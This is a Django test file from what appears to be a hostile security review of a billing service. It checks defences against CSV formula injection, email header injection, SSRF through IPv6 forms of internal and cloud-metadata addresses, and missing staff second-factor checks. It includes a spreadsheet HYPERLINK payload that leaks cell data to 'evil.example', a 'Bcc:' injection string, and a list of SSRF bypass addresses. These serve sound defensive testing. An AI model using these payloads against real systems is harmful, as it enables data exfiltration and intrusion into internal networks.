"""Hostile review of billing (review10): what a tenant controls must not reach a spreadsheet as a formula,
nor stop another tenant's budget notices; a webhook URL must not reach inside through an IPv6 form that
embeds an internal IPv4 address."""

import csv
import datetime
import io

import pytest
from django.core import mail
from django.test import override_settings
from django.utils import timezone

from apps.accounts.models import Organisation
from apps.billing import selectors, services
from apps.billing.documents import statement_csv
from apps.billing.models import BudgetNotice
from apps.common.fetch import check_address
from apps.keys.services import key_create

from .conftest import at, member, usage

OCTOBER = datetime.date(2026, 10, 1)


@pytest.mark.django_db
def test_an_organisation_named_like_a_formula_is_not_a_formula_in_the_csv():
    org = Organisation.objects.create(name='=HYPERLINK("https://evil.example/?"&A1,"click")')
    usage(org, "1", at(datetime.date(2026, 10, 3)))
    first_row = next(csv.reader(io.StringIO(statement_csv(selectors.statement(org, OCTOBER)))))
    assert first_row[1] == "'" + org.name, first_row


@pytest.mark.django_db
def test_a_key_name_with_a_line_break_stops_no_notice(org):
    other = Organisation.objects.create(name=f"{org.name}-other", monthly_budget=10)
    owner, other_owner = member(org, "owner"), member(other, "owner")
    key, _ = key_create(user=owner, name="x\nBcc: victim@example.com", organisation=org)
    key.monthly_budget = 1
    key.save(update_fields=["monthly_budget"])
    usage(org, "2", timezone.now(), key=key)
    usage(other, "9", timezone.now())
    services.budget_notices_check()
    assert BudgetNotice.objects.filter(scope="organisation", scope_id=other.id).exists()
    sent_to = [address for message in mail.outbox for address in message.to]
    assert other_owner.email in sent_to and owner.email in sent_to
    assert all("\n" not in message.subject for message in mail.outbox)


@pytest.mark.parametrize("address", [
    "::127.0.0.1", "::a00:1",  # IPv4-compatible (deprecated, ::/96)
    "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe",  # NAT64's well-known prefix: 127.0.0.1, 169.254.169.254
    "2002:7f00:1::1", "2002:a00:1::1",  # 6to4 of 127.0.0.1, 10.0.0.1
    "::ffff:0:7f00:1",  # IPv4-translated (SIIT)
    "fec0::1",  # site-local (deprecated, still routed inside some networks)
])
def test_ipv6_forms_of_internal_addresses_are_not_public(address):
    with override_settings(XROUTER_FETCH_ALLOW=[]):
        assert not check_address(address)


def test_public_ipv6_and_nat64_of_a_public_address_stay_allowed():
    with override_settings(XROUTER_FETCH_ALLOW=[]):
        assert check_address("2a00:1450:4010:c0e::71") and check_address("64:ff9b::808:808")
    with override_settings(XROUTER_FETCH_ALLOW=["::1/128", "127.0.0.0/8"]):
        assert check_address("::1") and check_address("::ffff:127.0.0.1") and not check_address("::2")


@pytest.mark.django_db
def test_the_last_representable_month_is_a_bad_month_not_a_crash(org):
    from django.test import Client

    client = Client(raise_request_exception=False)
    client.force_login(member(org, "owner"))
    r = client.get(f"/api/v1/billing/organisations/{org.id}/statement/", {"month": "9999-12"})
    assert r.status_code == 400 and r.json()["error"]["param"] == "month", r.content


@pytest.mark.django_db
def test_staff_read_other_organisations_spend_only_after_the_code_step(org, settings):
    """XROUTER_STAFF_TOTP (production): the admin asks staff for their second factor; the API's staff reads
    (every organisation's statement, top spenders, everyone's usage rows) must ask for it too, or a finance
    clerk's password alone opens them."""
    from django.contrib.auth.models import Group
    from django.test import Client
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from apps.accounts.models import User

    settings.XROUTER = settings.XROUTER | {"STAFF_TOTP": True}
    usage(org, "1", at(datetime.date(2026, 10, 3)))
    finance = User.objects.create_user(username="finance-clerk", password="x" * 12, is_staff=True)
    finance.groups.add(Group.objects.get(name="finance"))
    statement, top = f"/api/v1/billing/organisations/{org.id}/statement/", "/api/v1/billing/top-spenders/"
    password_only = Client()
    password_only.force_login(finance)
    assert password_only.get(statement, {"month": "2026-10"}).status_code == 404
    assert password_only.get(top, {"month": "2026-10"}).status_code == 403
    assert password_only.get("/api/v1/usage/").json()["results"] == []  # their own rows only: none
    verified = Client()
    verified.force_login(finance)
    session = verified.session
    session["otp_device_id"] = TOTPDevice.objects.create(user=finance, name="app", confirmed=True).persistent_id
    session.save()
    assert verified.get(statement, {"month": "2026-10"}).status_code == 200
    assert verified.get(top, {"month": "2026-10"}).status_code == 200
    assert len(verified.get("/api/v1/usage/").json()["results"]) >= 1


def test_two_rollups_of_a_day_at_once_lose_no_row(committed_db):
    """The beat's roll-up and `billing_rollup` (or two beat runs on a slow day) at once: the one that waits
    for the day's lock must sum the rows after it gets it, not before — else it replaces the other's roll-up
    with an older sum, and a row that arrived in between is missing from every statement."""
    import threading
    import time
    import uuid

    from django.db import connection, transaction

    from apps.billing.models import DailyRollup, RollupDay

    # Committed, never flushed (a flush would wipe the session gateway's keys): names and a day of its own.
    org = Organisation.objects.create(name=f"rollup-race-{uuid.uuid4().hex[:8]}")
    day = datetime.date(2021, 2, 3)
    usage(org, "1", at(day, hour=10))
    RollupDay.objects.create(day=day, computed_at=timezone.now())
    holding, release = threading.Event(), threading.Event()

    def hold_the_day():
        try:
            with transaction.atomic():
                RollupDay.objects.select_for_update().get(day=day)
                holding.set()
                release.wait(10)
        finally:
            connection.close()

    def roll_up():
        try:
            services.rollup_day(day)
        finally:
            connection.close()

    holder = threading.Thread(target=hold_the_day)
    holder.start()
    assert holding.wait(10)
    roller = threading.Thread(target=roll_up)
    roller.start()
    time.sleep(1.0)  # it waits for the day's lock (and, before the fix, had summed the rows already)
    usage(org, "2", at(day, hour=11))  # arrives while it waits
    release.set()
    holder.join(10)
    roller.join(10)
    assert sum(r.cost for r in DailyRollup.objects.filter(day=day, organisation_id=org.id)) == 3
